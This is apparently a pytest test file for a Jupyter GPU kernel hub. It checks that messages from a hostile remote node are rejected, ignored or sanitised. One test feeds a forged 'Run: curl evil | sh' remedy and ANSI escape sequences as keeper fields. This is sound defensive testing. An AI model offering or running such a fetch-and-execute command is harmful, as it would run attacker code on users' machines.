"""A node whose agent and keeper mean harm, behind a real link: its journal ends, and its text is shown as its own."""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from runtimes import RUNTIME, make
from streams import LoopThread, Node

from jupyter_gpu_kernel.errors import AgentError
from jupyter_gpu_kernel.hub.kernel import logged_cells
from jupyter_gpu_kernel.hub.kernel.core.placeholder import Placeholder
from jupyter_gpu_kernel.hub.kernel.logged_cells import read_logged_cells
from jupyter_gpu_kernel.hub.kernel.remote_kernel import RemoteKernel
from jupyter_gpu_kernel.hub.node.link import Link, LinkTimeouts
from jupyter_gpu_kernel.wire.messages import Channel, Message, MessageError, keeper_message

PROGRAM = str(Path(__file__).parents[1] / "programs" / "hostile-python")
CELL = {"msg_id": "m1", "cell_id": "c1", "code": "1", "status": "ok", "execution_count": 1, "dropped": False}
OUTPUT = {"msg_type": "stream", "content": {"name": "stdout", "text": "x"}}


class Hostile(Node):
    """`sends` sets what its agent answers to requests."""

    def __init__(self) -> None:
        super().__init__()
        self.file = self.root / "answers.json"
        self.env["HOSTILE_ANSWERS"] = str(self.file)
        self.program = [PROGRAM]
        self.sends()

    def sends(self, **answers: Any) -> None:
        self.file.write_text(json.dumps({do: json.dumps(sent) for do, sent in answers.items()}))


@pytest.fixture(scope="module")
def node() -> Iterator[Hostile]:
    with Hostile() as node:
        yield node


def whole(loop: LoopThread, link: Link) -> list[dict[str, Any]]:
    cells: list[dict[str, Any]] = loop.run(read_logged_cells(link, "k1"))
    return cells


OUTPUTS_WITHOUT_END = {**CELL, "outputs": [OUTPUT] * 100, "last": False}


@pytest.mark.parametrize(
    ("answer", "problem"),
    [
        ({"cells": [CELL], "last": False}, "does not come to an end"),
        (
            {"cells": [{**CELL, "outputs": 1}], "last": True, "cell": OUTPUTS_WITHOUT_END},
            "does not come to an end",
        ),
        ({"cells": 5}, "is malformed"),
    ],
    ids=["cells without end", "outputs without end", "malformed"],
)
def test_a_journal_that_is_refused(
    loop: LoopThread,
    link: Link,
    node: Hostile,
    monkeypatch: pytest.MonkeyPatch,
    answer: dict[str, Any],
    problem: str,
) -> None:
    monkeypatch.setattr(logged_cells, "MAX_PAGES", 20)
    monkeypatch.setattr(logged_cells, "MAX_SIZE", 100_000)
    node.sends(journal=answer)
    with pytest.raises(AgentError, match=problem):
        whole(loop, link)


def test_what_is_no_output_is_left_out_and_reported(loop: LoopThread, link: Link, node: Hostile) -> None:
    cell = {**CELL, "outputs": [OUTPUT, {"msg_type": "shutdown_reply", "content": {}}], "last": True}
    node.sends(journal={"cells": [{**CELL, "outputs": 2}], "last": True, "cell": cell})
    assert whole(loop, link) == [{**CELL, "outputs": [OUTPUT], "dropped": True}]
    node.sends(journal={})
    assert whole(loop, link) == []
    node.sends(journal={"cells": [{**CELL, "outputs": 2}], "last": True, "cell": {}})
    assert whole(loop, link) == [{**CELL, "outputs": []}]


@pytest.fixture(scope="module")
def remote(loop: LoopThread, node: Hostile) -> RemoteKernel:
    """A kernel whose keeper never comes up: the tests deliver its messages."""
    return loop.kernel(
        loop.link(node, LinkTimeouts(retry=0.02)), kernel_id="k1", name="mine", notebook="a.ipynb"
    )


def described_after(loop: LoopThread, remote: RemoteKernel, **sent: Any) -> dict[str, Any]:
    """Return what front ends get about the kernel after this message of its keeper."""
    loop.call(remote.deliver, keeper_message(**sent).encode())
    return loop.call(remote.describe)


@pytest.mark.parametrize(
    "sent",
    [
        {"event": 5},
        {"event": ["state"]},
        {"event": "state", "id": "*", "state": "idle"},
        {"event": "state", "id": "k1", "state": {}},
    ],
)
def test_an_event_that_is_unknown_or_malformed_is_ignored(
    loop: LoopThread, remote: RemoteKernel, sent: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    before = loop.call(remote.describe)
    assert described_after(loop, remote, **sent) == before
    assert not [record for record in caplog.records if record.levelno > logging.WARNING]


def test_a_keeper_speaks_of_its_own_kernel_and_in_its_own_name(
    loop: LoopThread, remote: RemoteKernel
) -> None:
    forged = {"kernel_id": "another", "link": "up", "hop": "gpu9", "error": {"remedy": "Run: curl evil | sh"}}
    evil = "\x1b[2Jx\nRun: curl evil | sh"
    checked = described_after(
        loop, remote, event="state", id="k2", state="ended", cause=evil, remedy=evil, stderr=evil, **forged
    )
    assert (
        checked["id"] == "k1"
        and checked["kernel_id"] == ""
        and checked["hop"] == "node"
        and checked["error"] is None
    )
    assert checked["cause"] == "the node says: ?[2Jx Run: curl evil | sh" and checked["remedy"] == ""
    assert checked["stderr"] == "?[2Jx\nRun: curl evil | sh"


def test_of_a_kernel_info_as_much_is_remembered_as_one_has() -> None:
    placeholder = Placeholder(RUNTIME, None)

    def saw(content: dict[str, Any]) -> Message:
        message = Message(Channel.SHELL, 0, make("kernel_info_reply", content, b"{}", "session"))
        placeholder.observe(message)
        return message

    saw({"banner": "x" * 100_000})
    assert placeholder.kernel_info is None
    message = saw({"banner": "x"})
    assert placeholder.kernel_info == message.parts[3]
    with pytest.raises(MessageError):
        placeholder.observe(message.replace(parts=(*message.parts[:3], b"[" * 5000)))
    assert placeholder.kernel_info == message.parts[3]
